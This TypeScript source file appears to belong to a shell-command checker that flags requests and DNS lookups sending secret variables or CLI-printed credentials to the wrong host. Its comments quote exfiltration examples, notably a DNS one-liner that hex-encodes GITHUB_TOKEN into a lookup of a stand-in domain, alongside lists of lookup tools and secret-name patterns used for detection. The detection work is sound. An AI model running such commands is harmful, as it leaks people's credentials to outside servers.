import { foreignKey } from '../semantic/sends-secrets.js';
import { privateHost } from '../values/private-hosts.js';
import { programName, type ProgramTable } from './programs.js';
import type { SimpleCommand } from './shell-words.js';
import { referencedNames } from './url-variables.js';
import { urlHost } from '../values/url-hosts.js';

// What a request carries once the shell has filled its words in: a service's key variable (`-H "X-T:
// $GITHUB_TOKEN"`, `-d "$(printenv STRIPE_SECRET_KEY)"`) or a credential a CLI prints (`$(gh auth token)`).
// Sent to the service it is for (api.github.com), that is how the service's API is called; sent to another
// host, it leaks there. A DNS name goes to whoever serves its zone: a secret built into one (`host
// "$(printenv GITHUB_TOKEN | xxd -p).d.x.example"`) reaches that server, and no service takes keys so.
// (A key variable in the URL itself is url-variables.ts' reading.)

/** Programs that look a name up (or resolve it first): the name is what they send. */
export const lookups: ReadonlySet<string> = new Set(['host', 'dig', 'nslookup', 'drill', 'kdig', 'ping', 'ping6', 'resolvectl', 'getent']);

// A variable named for a secret, whoever's it is (a looked-up name may carry no key at all).
export const secretName = /(?:^|_)(?:api_?key|key|token|secret|password|passwd|pat|credentials?)$/;

/**
 * Why `name args` sends a secret where it does not belong, or undefined. `printed(argv)` tells whether a
 * substituted command prints a stored credential. Linear in the words.
 */
export function sentSecret(
  table: ProgramTable,
  name: string,
  args: readonly string[],
  substitutions: readonly SimpleCommand[],
  printed: (argv: readonly string[]) => boolean,
  credentialNames?: ReadonlyMap<string, string>,
): string | undefined {
  const lookup = lookups.has(name);
  let host: string | undefined;
  if (!lookup) {
    for (const a of args) {
      host = urlHost(a);
      if (host !== undefined) break;
    }
    // No URL, or a host a variable decides: nothing is known of where the request goes.
    if (host === undefined || host.includes('$') || host.includes('%')) return undefined;
  }
  const names: string[] = [];
  for (const a of args) {
    if (!a.includes('$') && !a.includes('%')) continue;
    // The URL's own variables are url-variables.ts' (read there with the host they go to).
    if (!lookup && urlHost(a) !== undefined) continue;
    referencedNames(a, names);
  }
  const clis: string[] = [];
  for (const sub of substitutions) {
    const argv = sub.argv;
    const program = programName(argv[0] ?? '');
    // `printenv NAME` prints one variable: what `$NAME` would be.
    if (program === 'printenv') for (let i = 1; i < argv.length && names.length < 16; i++) if (!argv[i]!.startsWith('-')) names.push(argv[i]!.toLowerCase());
    if (printed(argv)) clis.push(program);
  }
  // A name the text set to a CLI's credential, anywhere in the words (the URL's query too): that credential.
  if (credentialNames !== undefined) {
    for (const a of args) {
      if (!a.includes('$')) continue;
      for (const name of referencedNames(a, [], Infinity)) {
        const cli = credentialNames.get(name);
        if (cli !== undefined && !clis.includes(cli)) clis.push(cli);
      }
    }
  }
  if (lookup) {
    const secret = names.find((n) => secretName.test(n));
    if (secret !== undefined) return `the looked-up name carries ${secret.toUpperCase()}`;
    return clis.length > 0 ? `the looked-up name carries what ${clis[0]} prints` : undefined;
  }
  const to = host!;
  if (names.length > 0 && foreignKey(names.join(' '), to)) return `${names.join(' ').toUpperCase()} sent to ${to}`;
  // A CLI's credential for no one service (a password manager's, a cluster's secret) belongs to no outside host.
  if (clis.length > 0 && !privateHost(to)) {
    for (const cli of clis) if (!table.credentialHomes.get(cli)?.some((word) => to.includes(word))) return `the credential ${cli} prints, sent to ${to}`;
  }
  return undefined;
}
